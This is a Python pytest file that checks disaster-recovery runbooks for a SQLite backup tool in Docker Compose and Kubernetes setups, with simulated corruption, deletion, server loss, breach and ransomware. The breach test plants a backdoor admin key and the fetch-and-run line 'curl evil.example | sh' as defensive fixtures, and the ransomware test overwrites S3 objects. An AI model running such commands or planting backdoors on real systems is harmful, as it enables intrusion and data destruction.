"""The runbooks for Docker Compose, followed command by command on a server after a disaster.

Only S3 and `docker` and `kubectl` are replaced: by the embedded AWS, and by stand-ins that stop and start a process
which simulates the application (tests/runbooks/orchestrator.py).
"""

from pathlib import Path

import pytest

from localaws import EmbeddedAws
from sqlitevault.catalog.manifest import Manifest, Scope
from sqlitevault.database.content import read_tables
from sqlitevault.vault.opening import open_vault
from tests.databases import rows
from tests.runbooks.disasters import back_up_now, change, copy_of, corrupt, moment_after
from tests.runbooks.pages import COMPOSE, KUBERNETES
from tests.runbooks.place import Place, make_place

pytestmark = pytest.mark.xdist_group("runbooks")  # one worker, one embedded AWS


@pytest.fixture
def database(server: Place) -> Path:
    """The server's database."""
    return server.folder / "data" / "devops_hub.db"


def newest_manifest(folder: Path) -> Manifest:
    """Return the manifest of the newest backup in a folder."""
    return Manifest.from_json(max(folder.rglob("*.manifest.json")).read_bytes())


def test_corruption(server: Place, database: Path) -> None:
    """After pages were overwritten under a running application, it finds the content of the last backup."""
    backed_up = back_up_now(server, database)
    corrupt(database)
    followed = server.follow("corruption", COMPOSE)
    server.require_found(backed_up)
    assert followed.calls == ["docker compose stop api", "docker compose start api"]
    assert newest_manifest(server.folder / "backups").tables == backed_up.tables
    assert len(list(database.parent.glob("devops_hub.db.pre_restore_*"))) >= 1


def test_accidental_deletion(server: Place, database: Path, tmp_path: Path) -> None:
    """Deleted events come back while the application keeps writing, and its new rows stay."""
    backed_up = back_up_now(server, database)
    incident = moment_after()
    change(database, ["DELETE FROM events WHERE rowid % 3 = 0"])
    back_up_now(server, database)  # the hourly backup that already lacks the rows
    server.follow("accidental-deletion", COMPOSE, {"TABLE": "events", "INCIDENT": incident})
    now = {table.name: table for table in read_tables(copy_of(database, tmp_path / "now.db"))}
    recorded = {table.name: table for table in backed_up.tables}
    assert now["events"] == recorded["events"]
    assert now["workflow_executions"].rows > recorded["workflow_executions"].rows
    assert server.running


@pytest.mark.parametrize("page", ["server-lost", "cluster-lost"])
def test_a_new_server(cloud_server: Place, tmp_path: Path, page: str) -> None:
    """On a new server, database and configuration come from the bucket; the variables of `.env` are named."""
    vault = open_vault(cloud_server.settings["VAULT"])
    back_up_now(cloud_server, cloud_server.database, vault)
    backed_up = back_up_now(cloud_server, cloud_server.database, vault, Scope.DATABASE)
    cloud_server.stop()
    folder = tmp_path / "new-server"
    new = make_place(folder, folder / "data" / "devops_hub.db", cloud_server.settings)
    try:
        followed = new.follow(page, COMPOSE)
        new.require_found(backed_up)
    finally:
        new.stop()
    assert (folder / "docker-compose.yml").read_text() == "services:\n  api:\n    image: devops-hub:1\n"
    assert "Set in .env, which is never restored: HUB_TOKEN." in followed.output
    assert followed.calls == ["docker compose up -d"]


@pytest.mark.parametrize("variant", [COMPOSE, KUBERNETES])
def test_breach(cloud_server: Place, variant: str) -> None:
    """An intruder's changes are undone (key, agent, deleted events), every key is revoked, and evidence is kept."""
    place = on_the_file_system(cloud_server)
    vault = open_vault(place.settings["VAULT"]) if variant == KUBERNETES else None
    backed_up = back_up_now(place, place.database, vault)
    incident = moment_after()
    change(
        place.database,
        [
            "INSERT INTO api_keys VALUES ('evil', 'hash', 'backdoor', '[\"admin\"]', 1, '2026-01-31', NULL, NULL)",
            "UPDATE agents SET implementations = 'curl evil.example | sh'",
            "DELETE FROM events WHERE type LIKE 'auth%' OR rowid % 5 = 0",
        ],
    )
    followed = place.follow("breach", variant, {"INCIDENT": incident})
    found = place.require_found(backed_up, but=("api_keys",))
    assert rows(found, "SELECT count(*) FROM api_keys WHERE is_active OR name = 'backdoor'") == [(0,)]
    assert rows(found, "SELECT count(*) FROM api_keys") != [(0,)]
    assert "backdoor" in followed.output
    assert list((place.folder / "evidence").glob("*.tar.gz"))


@pytest.mark.parametrize("variant", [COMPOSE, KUBERNETES])
def test_ransomware(cloud_server: Place, aws: EmbeddedAws, variant: str) -> None:
    """After database, local backups and vault were destroyed, the vault's versions restore everything."""
    place = on_the_file_system(cloud_server)
    vault = open_vault(place.settings["VAULT"])
    back_up_now(place, place.database)
    backed_up = back_up_now(place, place.database, vault)
    incident = moment_after()
    attack(aws, vault.location.split("/")[2])
    backups = (path for path in (place.folder / "backups").rglob("*") if path.is_file())
    for path in (place.database, *backups):
        path.write_bytes(b"pay up" * 10_000)
    assert list(vault.objects()) == []
    place.follow("ransomware", variant, {"INCIDENT": incident})
    place.require_found(backed_up)
    assert [stored.name for stored in vault.objects() if stored.name.endswith(".manifest.json")]


def on_the_file_system(place: Place) -> Place:
    """Return the place with DATABASE_PATH set, as on a machine that mounts a cluster's file system."""
    return Place(place.folder, place.stand_in, {**place.settings, "DATABASE_PATH": str(place.database)})


def attack(aws: EmbeddedAws, bucket: str) -> None:
    """Overwrite every object, delete it, and try to delete its versions, which the lock refuses."""
    s3 = aws.client("s3", "us-east-1")
    before = s3.list_object_versions(Bucket=bucket)["Versions"]
    for entry in before:
        s3.put_object(Bucket=bucket, Key=entry["Key"], Body=b"pay up" * 1000, ChecksumAlgorithm="SHA256")
        s3.delete_object(Bucket=bucket, Key=entry["Key"])
        with pytest.raises(s3.exceptions.ClientError, match="AccessDenied"):
            s3.delete_object(Bucket=bucket, Key=entry["Key"], VersionId=entry["VersionId"])
